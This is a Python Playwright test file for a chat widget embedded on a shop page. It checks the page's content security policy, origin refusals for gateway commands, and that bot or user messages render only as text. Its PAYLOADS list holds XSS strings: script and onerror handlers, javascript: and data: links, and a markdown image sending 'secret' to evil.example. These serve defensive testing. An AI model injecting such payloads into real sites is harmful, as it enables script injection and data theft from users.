"""On a customer's page: nothing gets in that the page, the site or the person has not let in."""

from __future__ import annotations

import json
import re

import aiohttp
import pytest
from playwright.async_api import Page, expect
from support.servers import eventually
from table_acts import Problems, ask, launch, opened, requests_of
from table_bot import Bot
from table_shop import Pictures, Shop, open_shop

from gateway.sandbox.answers import Answer

pytestmark = pytest.mark.asyncio(loop_scope="session")

COMMANDS = (
    *("session", "identify", "messages", "stop", "feedback", "regenerate", "history", "read"),
    *("conversations", "conversations/delete", "events", "files"),
)
PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<form action=https://evil.example><button>go</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "[x](javascript:pwned()) [x](JaVaScRiPt&#58;pwned()) [x](java\tscript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "![x](https://evil.example/?q=secret)",
    '[x](https://x.example "onmouseover=pwned()")',
    "```<img src=x onerror=pwned()>\ncode\n```",
    "<object data=javascript:pwned()></object><embed src=javascript:pwned()>",
)
FORBIDDEN = (
    "script, img, iframe, object, embed, form, input, style, link, base, math, details, "
    "svg [onload], template, video, meta"
)
LOOK = """(forbidden) => {
  const list = document.querySelector("#chat-gateway").shadowRoot.querySelector(".list");
  const all = [...list.querySelectorAll(".text *")];
  return {
    found: [...list.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML),
    handlers: all.flatMap((one) => one.getAttributeNames()).filter((name) => /^on/.test(name)),
    links: all.filter(({ href }) => href).map(({ protocol }) => protocol),
    isPwned: window.isPwned ?? false,
  };
}"""


async def test_the_policy_of_these_pages_bites(page: Page, shop: Shop, problems: Problems) -> None:
    """Otherwise that nothing is reported would say nothing."""
    await page.goto(shop.page())
    assert problems == []
    for unsafe in (
        "document.body.append(Object.assign(document.createElement('script'), { text: '1' }))",
        "document.querySelector('h1').innerHTML = '<b>Shop</b>'",
        "document.body.append(Object.assign(new Image(), { src: 'http://127.0.0.1:9/x' }))",
        "document.querySelector('h1').setAttribute('style', 'color: red')",
    ):
        await page.evaluate(f"() => {{ try {{ {unsafe} }} catch {{}} }}")
    for directive in ("require-trusted-types-for", "img-src", "style-src-attr"):
        await eventually(lambda name=directive: any(f"violation {name}" in p for p in problems))
    problems.clear()


async def test_everything_works_under_it(page: Page, shop: Shop) -> None:
    """Trusted Types too: the page lets nobody make any, and the widget needs none."""
    chat = await opened(page, shop.page(attributes='data-accent="#ffd23f" data-side="left"'))
    launcher = page.locator(".launcher")
    await expect(launcher).to_have_css("background-color", "rgb(255, 210, 63)")
    await ask(chat, "markdown")
    await ask(chat, "table")
    await ask(chat, "code")
    await expect(page.locator("[data-role=bot] table")).to_be_visible()
    await expect(page.locator("[part=panel]")).to_have_css("position", "fixed")
    await chat.press("list")
    await expect(page.locator(".item")).to_have_count(1)
    await chat.press("back")


async def test_a_page_that_is_not_listed_gets_nothing(
    page: Page, shop: Shop, bot: Bot, problems: Problems
) -> None:
    async with open_shop() as other:
        other.gateway = shop.gateway
        await page.goto(other.page())
        await page.locator("[data-action=open]").click()
        await eventually(lambda: any("channels.shop.origins" in line for line in problems))
        await expect(page.locator(".line.refused")).not_to_be_empty()
        assert await page.evaluate("localStorage.length") == 0
    assert bot.heard == []
    problems.forgive("403", "channels.shop.origins")


@pytest.mark.parametrize(
    ("headers", "error"),
    [
        ({"Origin": "https://evil.example"}, "origin_refused"),
        ({"Origin": "null"}, "origin_refused"),
        ({}, "origin_missing"),
        ({"Sec-Fetch-Site": "cross-site"}, "origin_missing"),
        ({"Referer": "{shop}/1"}, "origin_missing"),
    ],
)
async def test_no_command_is_taken_from_elsewhere(
    shop: Shop, bot: Bot, gateway: object, headers: dict[str, str], error: str
) -> None:
    sent = {name: value.replace("{shop}", shop.url) for name, value in headers.items()}
    async with aiohttp.ClientSession() as http:
        for command in COMMANDS:
            url = f"{shop.gateway}/w/v1/shop/{command}"
            async with http.post(url, data=json.dumps({"text": "Hi"}), headers=sent) as response:
                answer = await response.json()
            assert (response.status, answer["error"]) == (403, error), command
            assert set(answer) == {"error", "message"}
            async with http.options(url, headers=sent) as response:
                assert response.status == 403, command
    assert bot.heard == []


async def test_nothing_that_is_written_is_more_than_text(page: Page, shop: Shop, bot: Bot) -> None:
    """By the bot, or by the person, while it is new and when it is old."""
    bot.says[PAYLOADS[1]] = Answer("\n\n".join(PAYLOADS), pace=0)
    asked = requests_of(page)
    chat = await opened(page, shop.page())
    await ask(chat, PAYLOADS[1])
    await harmless(page)
    await page.reload()
    await launch(page)
    await chat.wait(1)
    await harmless(page)
    assert not [address for address in asked if "evil" in address]


async def harmless(page: Page) -> None:
    """Nothing has come of what was written but text, and links that are."""
    for link in await page.locator("[data-role=bot] .text a").all():
        await link.dispatch_event("mouseover")
    seen = await page.evaluate(LOOK, FORBIDDEN)
    assert set(seen.pop("links")) == {"https:"}
    assert seen == {"found": [], "handlers": [], "isPwned": False}
    await expect(page.locator("[data-role=bot] .text")).to_contain_text("<script>pwned()</script>")
    await expect(page.locator("[data-role=user] .text")).to_have_text([PAYLOADS[1]])


async def test_pictures_come_from_listed_hosts_only(
    page: Page, shop: Shop, bot: Bot, pictures: Pictures
) -> None:
    allow = {"img-src": f"http://{pictures.host}"}
    for key in ("shop", "pictures"):
        bot.says["a picture"] = Answer(pictures.markdown(key), pace=0)
        chat = await opened(page, shop.page(key, allow=allow))
        await ask(chat, "a picture")
    # The site that lists the host shows it; on the other it was a link.
    await expect(page.locator("[data-role=bot] img")).to_have_js_property("naturalWidth", 1)
    assert pictures.asked == ["pictures"]
    await opened(page, shop.page("shop", allow=allow))
    address = re.compile(f"^http://{pictures.host}/shop")
    link = page.get_by_role("link", name="a picture")
    await expect(link).to_have_attribute("href", address)
